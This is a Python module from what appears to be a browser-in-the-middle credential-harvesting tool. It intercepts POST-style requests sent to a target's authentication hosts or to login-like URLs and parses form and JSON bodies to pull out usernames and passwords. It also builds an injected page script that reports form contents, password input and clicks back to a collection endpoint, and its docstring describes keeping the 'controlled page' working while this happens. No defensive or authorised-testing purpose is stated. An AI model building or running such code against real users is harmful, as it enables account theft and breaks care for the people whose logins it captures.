"""Credential extraction from intercepted requests and injected page reports.

Everything here is best-effort: malformed input yields no credentials and a
log line, never an exception, so the controlled page keeps working.
"""

from __future__ import annotations

import json
import logging
from string import Template
from typing import Any, Optional, Sequence
from urllib.parse import parse_qsl, urlparse

from ..constants import (
    AUTH_URL_KEYWORDS,
    CAPTURE_METHODS,
    IDENTIFIER_KEYS,
    IDENTIFIER_MIN_LENGTH,
    INSTRUMENTATION_SCRIPT,
    SECRET_KEYS,
)
from .browser import InterceptedRequest

logger = logging.getLogger(__name__)


def classify_field(key: str, value: Any, found: dict[str, str]):
    """Record ``value`` under "identifier" and/or "secret" when the key suggests it.

    Later matches overwrite earlier ones.
    """
    if not isinstance(value, str) or not value:
        return
    key_lower = key.lower()
    if any(k in key_lower for k in IDENTIFIER_KEYS) and (
        "@" in value or len(value) > IDENTIFIER_MIN_LENGTH
    ):
        found["identifier"] = value
    if any(k in key_lower for k in SECRET_KEYS):
        found["secret"] = value


def extract_from_pairs(pairs) -> dict[str, str]:
    found: dict[str, str] = {}
    for key, value in pairs:
        classify_field(str(key), value, found)
    return found


def extract_from_json(data: Any) -> dict[str, str]:
    """Walk nested dicts and lists looking for credential-shaped fields."""
    found: dict[str, str] = {}

    def walk(node: Any):
        if isinstance(node, dict):
            for key, value in node.items():
                if isinstance(value, (dict, list)):
                    walk(value)
                else:
                    classify_field(str(key), value, found)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(data)
    return found


def parse_body(content_type: str, body: Optional[str]) -> dict[str, str]:
    """Extract credentials from a request body according to its declared encoding."""
    if not body:
        return {}
    content_type = content_type.lower()
    try:
        if "application/x-www-form-urlencoded" in content_type:
            return extract_from_pairs(parse_qsl(body, keep_blank_values=True))
        if "json" in content_type:
            return extract_from_json(json.loads(body))
    except (ValueError, TypeError) as e:
        logger.debug(f"Dropping unparseable {content_type} body: {e}")
    return {}


def is_monitored(request: InterceptedRequest, auth_hosts: Sequence[str], ignore_origin: str = "") -> bool:
    """True for write requests aimed at the target's authentication surface."""
    if request.method.upper() not in CAPTURE_METHODS:
        return False
    if ignore_origin and request.url.startswith(ignore_origin):
        return False

    parsed = urlparse(request.url)
    host = (parsed.hostname or "").lower()
    for auth_host in auth_hosts:
        auth_host = auth_host.lower()
        if host == auth_host or host.endswith("." + auth_host):
            return True

    # login.example.com and example.com/signin are both authentication surfaces
    path = parsed.path.lower()
    return any(keyword in host or keyword in path for keyword in AUTH_URL_KEYWORDS)


def credentials_from_request(
    request: InterceptedRequest, auth_hosts: Sequence[str], ignore_origin: str = ""
) -> dict[str, str]:
    if not is_monitored(request, auth_hosts, ignore_origin):
        return {}
    logger.info(f"Potential login request: {request.method} {request.url}")
    return parse_body(request.content_type, request.post_data)


def build_instrumentation_script(report_base: str, session_token: str) -> str:
    """Render the init script that reports forms, password input and clicks."""
    return Template(INSTRUMENTATION_SCRIPT).substitute(
        report_base=json.dumps(report_base),
        session_token=json.dumps(session_token),
    )
